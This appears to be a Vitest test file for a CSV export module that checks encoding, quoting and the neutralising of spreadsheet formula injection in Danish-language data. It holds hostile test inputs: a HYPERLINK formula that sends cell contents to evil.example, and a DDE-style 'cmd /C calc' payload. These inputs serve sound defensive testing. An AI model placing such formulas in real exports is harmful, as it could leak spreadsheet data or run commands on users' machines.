import { describe, expect, it } from 'vitest';
import { BOM, csvField, neutralise, toCsv } from '#functions/domain/export/csv';
import type { Table } from '#functions/domain/export/sheets';

const table = (rows: Table['rows']): Table => ({
  columns: [
    { header: 'Titel', kind: 'text', width: 10 },
    { header: 'Stemmer', kind: 'number', width: 10 },
  ],
  rows,
});

describe('toCsv', () => {
  it('starts with the byte-order mark, separates with ";" and ends every line with CRLF', () => {
    const csv = toCsv(table([['Ældre på øen får åbent', 3]]));
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.slice(1)).toBe('Titel;Stemmer\r\nÆldre på øen får åbent;3\r\n');
    // Encoded as UTF-8, the mark is EF BB BF and the Danish letters survive.
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toContain('Ældre på øen får åbent');
  });

  it('uses "," when asked, and then quotes fields with a comma instead of a semicolon', () => {
    const csv = toCsv(table([['Effektivitet, kvalitet', 1], ['a;b', 2]]), { separator: ',' });
    expect(csv.slice(1)).toBe('Titel,Stemmer\r\n"Effektivitet, kvalitet",1\r\na;b,2\r\n');
  });

  it('quotes fields per RFC 4180: separator, double quote or line break inside; quotes doubled', () => {
    expect(csvField('a;b', ';')).toBe('"a;b"');
    expect(csvField('Den "gode" idé', ';')).toBe('"Den ""gode"" idé"');
    expect(csvField('linje 1\nlinje 2', ';')).toBe('"linje 1\nlinje 2"');
    expect(csvField('linje 1\r\nlinje 2', ';')).toBe('"linje 1\r\nlinje 2"');
    expect(csvField('helt almindelig', ';')).toBe('helt almindelig');
    expect(csvField('', ';')).toBe('');
  });

  it('writes numbers plainly', () => {
    expect(csvField(0, ';')).toBe('0');
    expect(csvField(1234, ';')).toBe('1234');
  });
});

describe('formula injection', () => {
  it.each([
    ['=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    // A tab or CR is itself a cell break to some readers: the formula after it is neutralised too.
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', `"'\r'=1+1"`],
  ])('neutralises %j', (input, expected) => {
    expect(csvField(input, ';')).toBe(expected);
  });

  it('leaves text that only contains such characters later alone', () => {
    expect(neutralise('AI = bedre service')).toBe('AI = bedre service');
    expect(neutralise('e-mail@kommunen')).toBe('e-mail@kommunen');
  });

  it('neutralises inside a whole file, in every text column', () => {
    const csv = toCsv(table([['=1+1', 2]]));
    expect(csv.split('\r\n')[1]).toBe("'=1+1;2");
  });
});

describe('formula injection after any separator a spreadsheet may split on', () => {
  // A file written with ";" may be opened by a reader that splits on ",", a tab or "|", or that
  // ignores the quotes around a line break: every place a cell could begin must be safe.
  const separators = [',', ';', '\t', '|', '\n', '\r\n', '\r'];
  const triggers = ['=', '+', '-', '@'];
  const starts = (text: string) => text.split(/[,;\t|\r\n]/).map((cell) => cell.trimStart());

  for (const written of [';', ','] as const) {
    it.each(separators.flatMap((sep) => triggers.map((t) => [sep, t])))(
      `no cell after %j can start with %j (file written with "${written}")`,
      (sep, trigger) => {
        const hostile = `Godt forslag${sep}${trigger}HYPERLINK("http://evil.example/?"&A1)`;
        const field = csvField(hostile, written);
        const unquoted = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
        for (const cell of starts(unquoted)) expect(cell).not.toMatch(/^[=+\-@]/);
        // The reader still sees every character of what was written.
        expect(unquoted.replaceAll("'", '')).toBe(hostile.replaceAll("'", ''));
      },
    );
  }

  it('neutralises a formula behind spaces after a separator (readers that trim)', () => {
    for (const cell of neutralise('a;  =1+1|\t -2').split(/[;|\t]/).map((c) => c.trimStart())) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('leaves ordinary punctuation alone', () => {
    expect(neutralise('Effektivitet, kvalitet; hastighed')).toBe('Effektivitet, kvalitet; hastighed');
    expect(neutralise('5-10 timer | uge')).toBe('5-10 timer | uge');
  });

  it('a hostile title survives a whole file with both separators', () => {
    for (const separator of [';', ','] as const) {
      const csv = toCsv(table([['ok,=cmd|\' /C calc\'!A0;@SUM(1)', 1]]), { separator });
      const body = csv.slice(1).replaceAll('"', '');
      for (const cell of starts(body)) expect(cell).not.toMatch(/^[=+\-@]/);
    }
  });
});
